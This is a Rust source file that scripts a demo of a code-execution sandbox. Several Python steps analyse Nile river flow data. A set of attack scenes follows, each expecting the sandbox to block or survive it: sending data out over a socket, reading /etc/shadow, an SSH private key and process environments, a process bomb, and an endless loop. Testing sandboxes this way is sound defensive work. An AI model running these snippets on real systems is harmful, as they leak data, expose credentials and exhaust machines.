//! The demo as data: tool calls in order, and the expected answer of each.

use serde_json::{Value, json};

/// The demo's data set. It is in the public domain; `examples/README.md` gives its source.
pub(super) const NILE_CSV: &[u8] = include_bytes!("../../../../../examples/nile.csv");

/// One call of a tool.
#[derive(Debug)]
pub(super) struct Scene {
    /// The scene's title, for people.
    pub(super) title: &'static str,
    /// The tool.
    pub(super) tool: &'static str,
    /// The code, for `execute_code`.
    pub(super) code: &'static str,
    /// The time limit of the code; none: the default.
    pub(super) timeout_s: Option<u32>,
    /// The expected status.
    pub(super) status: &'static str,
    /// The accepted values of `cause.code`; empty: there must be no cause.
    pub(super) causes: &'static [&'static str],
    /// Texts that the answer must contain.
    pub(super) answers: &'static [&'static str],
    /// The scene's conclusion, printed after the answer.
    pub(super) moral: &'static str,
}

impl Scene {
    /// The arguments of the call.
    pub(super) fn arguments(&self) -> Value {
        let mut arguments = json!({"code": self.code});
        if let (Some(map), Some(timeout_s)) = (arguments.as_object_mut(), self.timeout_s) {
            map.insert("timeout_s".to_owned(), json!(timeout_s));
        }
        arguments
    }
}

const fn code(title: &'static str, code: &'static str, answers: &'static [&'static str], moral: &'static str) -> Scene {
    Scene {
        title,
        tool: "execute_code",
        code,
        timeout_s: None,
        status: "ok",
        causes: &[],
        answers,
        moral,
    }
}

/// The analysis. Each step uses the variables of the step before.
pub(super) const ANALYSIS_SCENES: &[Scene] = &[
    code(
        "Read the file",
        r#"import csv
with open("nile.csv") as file:
    flow = {int(row["year"]): int(row["volume"]) for row in csv.DictReader(file)}
print(f"{len(flow)} years, {min(flow)} to {max(flow)}")"#,
        &["100 years, 1871 to 1970"],
        "`flow` stays in the session for the calls that follow.",
    ),
    code(
        "Describe it",
        r#"from statistics import mean, median, stdev
low, high = min(flow, key=flow.get), max(flow, key=flow.get)
print(f"mean {mean(flow.values()):.2f}   standard deviation {stdev(flow.values()):.2f}")
print(f"lowest {flow[low]} in {low}   highest {flow[high]} in {high}")
median(flow.values())"#,
        &[
            "mean 919.35",
            "deviation 169.23",
            "456 in 1913",
            "1370 in 1879",
            "893.5",
        ],
        "The last expression's value comes back too, as in a notebook.",
    ),
    code(
        "Find the year in which the river changed",
        r#"def misfit(values):
    middle = mean(values)
    return sum((value - middle) ** 2 for value in values)

values = list(flow.values())
split = min(range(5, 95), key=lambda k: misfit(values[:k]) + misfit(values[k:]))
year, before, after = 1871 + split - 1, mean(values[:split]), mean(values[split:])
print(f"the flow drops after {year}: from {before:.2f} to {after:.2f} on average")"#,
        &["drops after 1898", "1097.75", "849.97"],
        "The year the literature names too (Cobb, 1978), just before the first Aswan dam was begun.",
    ),
    code(
        "Draw it",
        r#"for decade in range(1871, 1971, 10):
    height = mean(flow[y] for y in range(decade, decade + 10))
    print(f"{decade}s {'█' * round(height / 40):<30} {height:6.0f}" + ("  ← lower" if decade == 1901 else ""))"#,
        &["1871s", "1961s", "█"],
        "Text here; with matplotlib at hand a plot comes back as an image.",
    ),
];

/// Code that does harm, on purpose or by accident.
pub(super) const ATTACK_SCENES: &[Scene] = &[
    Scene {
        title: "Try to send the data away",
        tool: "execute_code",
        code: r#"import socket
socket.create_connection(("1.1.1.1", 443), timeout=3).sendall(repr(flow).encode())"#,
        timeout_s: None,
        status: "error",
        causes: &["network_denied"],
        answers: &[],
        moral: "There is no network in the sandbox, and the answer states it in words that a model understands.",
    },
    Scene {
        title: "Try to read secrets of this machine",
        tool: "execute_code",
        code: r#"import glob, os
for path in ["/etc/shadow", "/root/.ssh/id_ed25519", "/proc/1/environ"]:
    try:
        print(path, "->", len(open(path).read()), "bytes")
    except OSError as error:
        print(path, "->", error.strerror)
print("homes:", glob.glob("/home/*"), "  processes:", sum(name.isdigit() for name in os.listdir("/proc")))"#,
        timeout_s: None,
        status: "ok",
        causes: &[],
        answers: &["/etc/shadow -> ", "homes: ['/home/user']"],
        moral: "Files, homes and processes of this machine are not locked away: they are not there.",
    },
    Scene {
        title: "Set off a process bomb",
        tool: "execute_code",
        code: r#"import subprocess
bomb = []
while True:
    bomb.append(subprocess.Popen(["sleep", "60"]))"#,
        timeout_s: Some(10),
        status: "error",
        causes: &["process_limit"],
        answers: &[],
        moral: "It hit the sandbox's own limit and is named. This machine never noticed.",
    },
    Scene {
        title: "Clear up after the bomb",
        tool: "execute_code",
        code: r#"for child in bomb:
    child.kill()
    child.wait()
print(f"{len(bomb)} processes ended; still {len(flow)} years here")"#,
        timeout_s: None,
        status: "ok",
        causes: &[],
        answers: &["processes ended; still 100 years here"],
        moral: "The session survived, and cleared up by itself.",
    },
    Scene {
        title: "Loop for ever",
        tool: "execute_code",
        code: "while True:\n    pass",
        timeout_s: Some(1),
        status: "timeout",
        causes: &["timeout"],
        answers: &[],
        moral: "Interrupted after the second it was given, as Ctrl-C does it.",
    },
    Scene {
        title: "And go on where we were",
        tool: "execute_code",
        code: r#"print(f"{len(flow)} years, the drop after {year}: all still here")"#,
        timeout_s: None,
        status: "ok",
        causes: &[],
        answers: &["100 years, the drop after 1898: all still here"],
        moral: "A time-out costs no variables.",
    },
];

#[cfg(test)]
mod tests {
    use super::NILE_CSV;

    fn volumes() -> Vec<(u32, u64)> {
        let text = std::str::from_utf8(NILE_CSV).unwrap();
        let mut lines = text.lines();
        assert_eq!(lines.next(), Some("year,volume"));
        lines
            .map(|line| {
                let (year, volume) = line.split_once(',').unwrap();
                (year.parse().unwrap(), volume.parse().unwrap())
            })
            .collect()
    }

    #[test]
    fn the_shipped_file_has_the_figures_known_from_the_literature() {
        let rows = volumes();
        assert_eq!(rows.len(), 100);
        assert!(rows.iter().map(|(year, _)| *year).eq(1871..=1970));
        let sum = |rows: &[(u32, u64)]| rows.iter().map(|(_, volume)| volume).sum::<u64>();
        assert_eq!(sum(&rows), 91_935);
        assert_eq!(
            rows.iter().map(|(_, v)| v * v).sum::<u64>() - 91_935 * 91_935 / 100,
            2_835_157
        );
        assert_eq!(rows.iter().min_by_key(|(_, volume)| *volume), Some(&(1913, 456)));
        assert_eq!(rows.iter().max_by_key(|(_, volume)| *volume), Some(&(1879, 1370)));
        // 28 years before the break with a mean of 1097.75, 72 after it with 849.97.
        assert_eq!(sum(&rows[..28]), 30_737);
        assert_eq!(sum(&rows[28..]), 61_198);
    }
}
